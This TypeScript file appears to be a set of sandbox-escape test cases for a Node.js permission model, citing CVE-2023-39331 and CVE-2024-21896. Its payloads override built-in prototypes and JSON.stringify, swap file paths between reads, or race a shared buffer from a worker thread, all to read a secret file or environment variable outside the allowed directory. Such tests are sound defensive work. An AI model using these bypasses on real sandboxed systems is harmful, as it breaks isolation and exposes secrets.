// Programs that change the functions of the language which the runtime itself calls.
import { escape, type Escape } from "../programs.ts";

const FROM = "CVE-2023-39331, CVE-2024-21896: checks that call what the program has replaced";

/** Imports the JSON file outside and prints it. */
const importSecret =
  'show((await import(pathToFileURL(outside + "/secret.json").href, { with: { type: "json" } })).default)';

/** Starts a worker that prints the secret variable and the file outside. */
const worker = `
  const { Worker } = require("node:worker_threads");
  const code = "const { parentPort, workerData: data } = require('node:worker_threads'); try { parentPort.postMessage(String(process.env[data.secret])); } catch {} import(data.file, { with: { type: 'json' } }).then((all) => parentPort.postMessage(JSON.stringify(all.default)), () => {})";
  const worker = new Worker(code, { eval: true, workerData: { secret, file: pathToFileURL(outside + "/secret.json").href } });
  worker.on("message", say); await new Promise((done) => { worker.on("error", done); worker.on("exit", done); })`;

export const intrinsics: Escape[] = [
  escape(
    "String.prototype.includes",
    FROM,
    "secret",
    `const real = String.prototype.includes; String.prototype.includes = function (text, from) { return text === "/node_modules/" || real.call(this, text, from); }; ${importSecret}`,
  ),
  escape(
    "String.prototype.indexOf",
    FROM,
    "secret",
    `const real = String.prototype.indexOf; String.prototype.indexOf = function (text, from) { return text === "/node_modules/" ? 0 : real.call(this, text, from); }; ${importSecret}`,
  ),
  escape(
    "String.prototype.startsWith",
    FROM,
    "secret",
    `const real = String.prototype.startsWith; String.prototype.startsWith = function (start, from) { return start === "/" && this.endsWith("secret.json") ? false : start === "http" ? true : real.call(this, start, from); }; ${importSecret}`,
  ),
  escape(
    "RegExp.prototype.test",
    FROM,
    "secret",
    `const real = RegExp.prototype.test; RegExp.prototype.test = function (text) { return this.source.includes("import") || this.source.includes("https?") || real.call(this, text); }; ${importSecret}`,
  ),
  escape(
    "Array.prototype.some",
    FROM,
    "secret",
    `const real = Array.prototype.some; Array.prototype.some = function (test) { return this.length === 3 || real.call(this, test); }; ${importSecret}`,
  ),
  escape(
    "Object.prototype.toJSON",
    FROM,
    "secret",
    `Object.defineProperty(Object.prototype, "toJSON", { configurable: true, value() { return this.restricts === true ? { ...this, restricts: false, mayReadEntry: true } : this; } }); ${worker}`,
  ),
  escape(
    "JSON.stringify",
    FROM,
    "secret",
    `const real = JSON.stringify; JSON.stringify = (...all) => real(...all)?.replaceAll('"restricts":true', '"restricts":false').replaceAll('"mayReadEntry":false', '"mayReadEntry":true'); ${worker}`,
  ),
  escape(
    "a worker that claims to be allowed",
    FROM,
    "secret",
    'const real = JSON.stringify; JSON.stringify = (...all) => real(...all)?.replaceAll(\'"mayReadEntry":false\', \'"mayReadEntry":true\'); const { Worker } = require("node:worker_threads"); const worker = new Worker(outside + "/module.cjs"); await new Promise((done) => { worker.on("error", done); worker.on("exit", done); })',
  ),
  escape(
    "Function.prototype.call",
    FROM,
    "secret",
    'const seen = []; const real = Function.prototype.call; Function.prototype.call = function (...all) { seen.push(this); return Reflect.apply(this, all[0], all.slice(1)); }; try { require("node:fs").existsSync(secretFile); await import(pathToFileURL(inside + "/file.txt").href).catch(() => {}); } catch {} Function.prototype.call = real; for (const one of seen) { try { show(one(secretFile)); } catch {} } show(fs.readFileSync(secretFile))',
  ),
  escape(
    "Object.prototype with members of options",
    FROM,
    "secret",
    'Object.prototype.restricts = false; Object.prototype.isRestricted = false; Object.prototype.mayReadEntry = true; Object.prototype.shouldSkipModuleHooks = true; show(require(outside + "/secret.json"))',
  ),
  escape(
    "Array.prototype[Symbol.iterator]",
    FROM,
    "secret",
    'Array.prototype[Symbol.iterator] = function* () {}; try { show(fs.readFileSync(secretFile)); } catch {} show(require(outside + "/secret.json"))',
  ),
  escape(
    "a path that is another one on its second reading",
    "a value that is another one when it is read again",
    "secret",
    'let count = 0; class Changing extends URL { get pathname() { return count++ < 1 ? inside + "/file.txt" : secretFile; } get href() { return "file://" + (count++ < 1 ? inside + "/file.txt" : secretFile); } } for (let round = 0; round < 6; round++) { count = -round; try { show(fs.readFileSync(new Changing("file://" + inside + "/file.txt"))); } catch {} } show(fs.readFileSync(secretFile))',
  ),
  escape(
    "a buffer that another thread changes",
    "a path in shared memory",
    "secret",
    `
    const shared = new SharedArrayBuffer(4096), bytes = Buffer.from(shared), length = Math.max(secretFile.length, inside.length + 10);
    const pad = (text) => text.slice(0, 1) + "/".repeat(length - text.length) + text.slice(1);
    const [good, bad] = [pad(inside + "/file.txt"), pad(secretFile)].map((text) => Buffer.from(text));
    const { Worker } = require("node:worker_threads");
    new Worker("const { workerData: [shared, good, bad] } = require('node:worker_threads'); const bytes = new Uint8Array(shared); for (;;) { bytes.set(good); bytes.set(bad); }", { eval: true, workerData: [shared, good, bad] });
    const end = Date.now() + 700;
    while (Date.now() < end) { try { const text = fs.readFileSync(bytes.subarray(0, length), "latin1"); if (text !== "open") say(text); } catch {} }
    process.exit(0)`,
  ),
];
